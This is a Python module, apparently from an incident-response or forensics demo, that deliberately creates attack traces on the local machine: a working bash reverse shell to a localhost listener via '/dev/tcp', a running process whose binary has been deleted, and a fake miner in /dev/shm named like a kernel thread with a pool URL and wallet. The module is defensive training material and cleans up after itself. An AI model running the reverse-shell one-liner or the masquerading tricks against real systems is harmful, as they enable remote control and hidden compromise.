"""Harmless live attack traces on this machine, for the volatile collection.

- a reverse shell: `bash -i` whose stdin/stdout/stderr are a TCP connection to a local listener on
  127.0.0.1 (the listener plays the attacker's `nc -l`), made the way attackers do it:
  `bash -i >& /dev/tcp/HOST/PORT 0>&1`;
- a process whose binary was deleted: a copy of `sleep`, started, then unlinked;
- a "miner" running from /dev/shm: a tiny idle program named like a kernel thread with a miner's
  command line (`-o stratum+tcp://POOL:3333`).
Every process has PR_SET_PDEATHSIG(SIGKILL) and its own process group; stop() kills them all and
removes their files, and runs on every exit path of the demo.
"""
import os
import shutil
import signal
import subprocess
import sys

from . import procs, story

HERE = os.path.dirname(os.path.abspath(__file__))
IDLE_SRC = os.path.join(HERE, "..", "idle.c")

LISTENER = r"""
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 0))
s.listen(1)
print(s.getsockname()[1], flush=True)
conn, _ = s.accept()
conn.settimeout(None)
while True:
    if not conn.recv(4096):
        time.sleep(3600)
"""

WALLET = ("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3"
          "RVGQBEP3A")


def _mkdir(prefix, parent):
    return procs.owned_tmpdir(prefix, parent)


sweep_stale = procs.sweep_stale


class Traces:
    def __init__(self, env=None):
        self.env = dict(env if env is not None else os.environ)
        self.procs = {}
        self.dirs = []
        self.info = {}

    def _spawn(self, key, argv, executable=None, **kw):
        p = subprocess.Popen(argv, executable=executable, preexec_fn=procs.pdeathsig(signal.SIGKILL),
                             cwd=kw.pop("cwd", "/"),
                             env=self.env, stdin=kw.pop("stdin", subprocess.DEVNULL),
                             stdout=kw.pop("stdout", subprocess.DEVNULL),
                             stderr=kw.pop("stderr", subprocess.DEVNULL), **kw)
        self.procs[key] = p
        return p

    def start(self):
        try:
            self._start()
        except BaseException:
            self.stop()
            raise
        return self.info

    def _start(self):
        sweep_stale()
        # The attacker's listener, then the reverse shell connecting to it.
        lst = self._spawn("listener", [sys.executable, "-c", LISTENER], stdout=subprocess.PIPE)
        port = int(lst.stdout.readline().strip() or 0)
        if not port:
            raise RuntimeError("traces: the listener did not start")
        cmd = "exec bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/%d 0>&1" % port
        sh = self._spawn("reverse_shell", ["bash", "-c", cmd])
        self.info["listener"] = {"pid": lst.pid, "port": port}
        self.info["reverse_shell"] = {"pid": sh.pid, "remote": "127.0.0.1:%d" % port,
                                      "command": cmd}

        # A process whose binary is deleted.
        d = _mkdir("cf-demo-trace-", "/tmp")
        self.dirs.append(d)
        exe = os.path.join(d, story.TRACE_DELETED_NAME)
        shutil.copy2(shutil.which("sleep") or "/bin/sleep", exe)
        os.chmod(exe, 0o755)
        dele = self._spawn("deleted_binary", [story.TRACE_DELETED_NAME, "86400"], executable=exe)
        procs.wait_until(lambda: os.path.exists("/proc/%d/exe" % dele.pid) and
                         os.readlink("/proc/%d/exe" % dele.pid) == exe, 5)
        os.unlink(exe)
        self.info["deleted_binary"] = {"pid": dele.pid, "path": exe}

        # The miner, from /dev/shm.
        shm = "/dev/shm" if os.path.isdir("/dev/shm") else None
        m = _mkdir(".cf-demo-", shm)
        self.dirs.append(m)
        miner = os.path.join(m, story.TRACE_MINER_NAME)
        cc = shutil.which("cc") or shutil.which("gcc") or shutil.which("clang")
        if not cc:
            raise RuntimeError("traces: no C compiler (build-essential) to build the idle miner")
        subprocess.run([cc, "-O1", "-o", miner, IDLE_SRC], check=True)
        argv = [story.TRACE_MINER_NAME, "-o", "stratum+tcp://%s:%d" % (story.POOL_IP, story.POOL_PORT),
                "-u", WALLET, "-p", "x", "--donate-level", "1", "--cpu-max-threads-hint", "90"]
        mp = self._spawn("miner", argv, executable=miner)
        self.info["miner"] = {"pid": mp.pid, "path": miner, "cmdline": argv}

        # Wait until the shell is really connected (its fd 0 is a socket).
        ok = procs.wait_until(lambda: os.readlink("/proc/%d/fd/0" % sh.pid).startswith("socket:")
                              if os.path.exists("/proc/%d/fd/0" % sh.pid) else False, 5)
        if not ok:
            raise RuntimeError("traces: the reverse shell did not connect")
        self.info["pids"] = sorted(p.pid for p in self.procs.values())
        return self.info

    def stop(self):
        for p in self.procs.values():
            if p.poll() is None:
                try:
                    os.killpg(p.pid, signal.SIGKILL)
                except (ProcessLookupError, PermissionError):
                    pass
        for p in self.procs.values():
            try:
                p.wait(timeout=5)
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait()
            if p.stdout:
                p.stdout.close()
        for d in self.dirs:
            shutil.rmtree(d, ignore_errors=True)
        self.dirs = []

    def __enter__(self):
        return self.start()

    def __exit__(self, *exc):
        self.stop()
